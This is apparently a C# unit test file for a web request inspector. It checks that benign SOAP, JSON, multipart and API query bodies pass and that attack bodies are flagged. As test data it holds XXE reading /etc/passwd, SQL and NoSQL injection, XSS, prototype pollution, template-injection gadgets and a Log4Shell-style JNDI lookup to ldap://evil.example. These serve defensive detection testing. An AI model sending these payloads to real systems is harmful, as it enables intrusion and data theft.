using System.Text;
using Aigis.Core.Security.Inspection;

namespace Aigis.Core.Tests.Security;

/// <summary>Generic-service bodies inspected by their structure: XML declarations vs element text, multipart parts by their own type.</summary>
public sealed class StructuredBodyTests
{
    private static ScoreCard Body(string body, string contentType)
    {
        var card = new ScoreCard();
        WebRequestInspector.InspectBody(SecurityTestRules.ParanoiaOne, Encoding.UTF8.GetBytes(body), contentType, card);
        return card;
    }

    [Fact]
    public void A_soap_envelope_with_namespaces_passes()
    {
        const string soap = """<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://example.com/a a.xsd"><soap:Body><Predict xmlns="http://example.com/model"><text>Summarize the quarterly report.</text></Predict></soap:Body></soap:Envelope>""";
        Assert.True(Body(soap, "application/soap+xml").WebScore < 5, Body(soap, "application/soap+xml").RuleIds(false));
    }

    [Fact]
    public void An_external_entity_declaration_is_refused()
    {
        const string xxe = """<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>""";
        Assert.True(Body(xxe, "application/xml").WebScore >= 5);
    }

    [Fact]
    public void Script_elements_inside_xml_are_refused() =>
        Assert.True(Body("<data><svg onload=\"alert(1)\"/></data>", "application/xml").WebScore >= 5);

    [Fact]
    public void Injection_in_element_text_is_still_found() =>
        Assert.True(Body("<order><id>1' OR '1'='1</id></order>", "text/xml").WebScore >= 5);

    [Fact]
    public void A_jsonl_upload_of_training_examples_is_data()
    {
        const string body = "--b\r\nContent-Disposition: form-data; name=\"purpose\"\r\n\r\nfine-tune\r\n--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"train.jsonl\"\r\nContent-Type: application/jsonl\r\n\r\n" +
            "{\"prompt\":\"Drop the table\",\"completion\":\"DROP TABLE users; --\"}\n{\"prompt\":\"list files\",\"completion\":\"ls -la /etc; cat /etc/passwd\"}\n{\"prompt\":\"xss\",\"completion\":\"<script>alert(1)</script>\"}\r\n--b--\r\n";
        var card = Body(body, "multipart/form-data; boundary=b");
        Assert.True(card.WebScore < 5, card.RuleIds(false));
    }

    [Fact]
    public void A_form_field_in_the_same_upload_is_still_inspected()
    {
        const string body = "--b\r\nContent-Disposition: form-data; name=\"purpose\"\r\n\r\n1' UNION SELECT password FROM users--\r\n--b--\r\n";
        Assert.True(Body(body, "multipart/form-data; boundary=b").WebScore >= 5);
    }

    [Theory]
    [InlineData("fi;le")]
    [InlineData("file=.txt")]
    [InlineData("1.j\\s\\p")]
    public void Multipart_names_that_split_parsers_are_refused(string name)
    {
        var body = $"--b\r\nContent-Disposition: form-data; name=\"{name}\"; filename=\"a.txt\"\r\n\r\nx\r\n--b--\r\n";
        Assert.True(Body(body, "multipart/form-data; boundary=b").WebScore >= 5);
    }

    [Fact]
    public void Entity_encoded_names_pass()
    {
        const string body = "--b\r\nContent-Disposition: form-data; name=\"z&auml;&ouml;z\"; filename=\"a&amp;b.txt\"\r\n\r\nx\r\n--b--\r\n";
        Assert.True(Body(body, "multipart/form-data; boundary=b").WebScore < 5);
    }

    [Theory]
    [InlineData("{\"template\":\"Hello {{name}}, your order {{order.id}} ships {{ship_date}}.\"}")]
    [InlineData("{\"filter\":{\"$and\":[{\"age\":{\"$gte\":18}},{\"status\":{\"$in\":[\"active\",\"trial\"]}}]}}")]
    public void Templates_and_query_documents_pass(string json) => Assert.True(Body(json, "application/json").WebScore < 5, Body(json, "application/json").RuleIds(false));

    [Theory]
    [InlineData("{\"__proto__\":{\"admin\":true}}")]
    [InlineData("{\"a\":{\"constructor\":{\"prototype\":{\"x\":1}}},\"q\":\"constructor.prototype.admin\"}")]
    [InlineData("{\"name\":\"{{7*7}}\"}")]
    [InlineData("{\"name\":\"{{ ''.__class__.__mro__[1].__subclasses__() }}\"}")]
    [InlineData("{\"name\":\"${${lower:j}${::-n}${::-d}${upper:i}:ldap://evil.example/a}\"}")]
    public void Prototype_pollution_template_injection_and_nested_lookups_are_refused(string json) =>
        Assert.True(Body(json, "application/json").WebScore >= 5, json);

    [Theory]
    [InlineData("{\"username\":\"admin\",\"password\":{\"$ne\":null}}")]
    [InlineData("{\"filter\":{\"$where\":\"sleep(5000)\"}}")]
    public void Query_operators_where_a_credential_was_due_are_refused(string json) =>
        Assert.True(Body(json, "application/json").WebScore >= 5, json);

    [Fact]
    public void Bracketed_operators_in_a_form_are_refused_outside_filter_containers()
    {
        Assert.True(SecurityTestRules.Get("/svc/x/login?user=admin&password[$ne]=x").WebScore >= 5);
        Assert.True(SecurityTestRules.Get("/svc/x/show?u_id[$regex]=2").WebScore >= 5);
        Assert.True(SecurityTestRules.Get("/svc/x/articles?filters[age][$gte]=18&sort=-created_at&page[size]=10").WebScore < 5);
    }

    [Theory]
    [InlineData("/svc/x/Products?$filter=Price%20lt%2010%20and%20Name%20eq%20'O''Brien'&$top=5&$orderby=Name%20desc")]
    [InlineData("/svc/x/search?q=status:active%20AND%20age:%3E18&fields=id,name")]
    [InlineData("/svc/x/users?search=age%3E18;name==john")]
    public void Common_api_query_syntaxes_pass(string target) =>
        Assert.True(SecurityTestRules.Get(target).WebScore < 5, SecurityTestRules.Get(target).RuleIds(false));
}
